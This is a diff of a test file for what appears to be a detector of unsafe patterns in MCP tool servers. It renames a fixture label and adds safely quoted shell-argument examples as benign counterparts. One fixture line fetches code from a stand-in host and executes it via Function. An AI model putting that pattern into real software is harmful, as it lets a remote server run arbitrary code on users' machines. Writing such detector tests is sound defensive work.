@@ -87,7 +87,7 @@ const javascript: readonly (readonly [string, string, string])[] = [
   ],
   [
     'code out of an answer',
-    'code-runs-download',
+    'code-runs-answer',
     "const r = await fetch('https://a.example/x'); const t = await r.text(); const f = Function; f(t)()",
   ],
   [
@@ -182,6 +182,22 @@ describe('honest twins', () => {
       'python',
       'a program with arguments',
       "import subprocess\nfrom mcp import FastMCP\napp = FastMCP('a')\n@app.tool()\ndef log(count: int) -> str:\n    return subprocess.run(['git', 'log', f'-{count}'], capture_output=True).stdout\n",
+    ],
+    [
+      'javascript',
+      'an argument that is quoted for a shell',
+      String.raw`const { exec } = require('child_process'); const quoted = (one) => "'" + one.replace(/'/g, "'\\''") + "'"; server.tool('find', 'Finds', {}, async ({ pattern }) => exec('rg ' + quoted(pattern)))`,
+    ],
+    [
+      'python',
+      'an argument that is quoted for a shell',
+      `import shlex, subprocess
+from mcp import FastMCP
+app = FastMCP('a')
+@app.tool()
+def find(pattern: str) -> str:
+    return subprocess.run('rg ' + shlex.quote(pattern), shell=True, capture_output=True).stdout
+`,
     ],
     [
       'python',
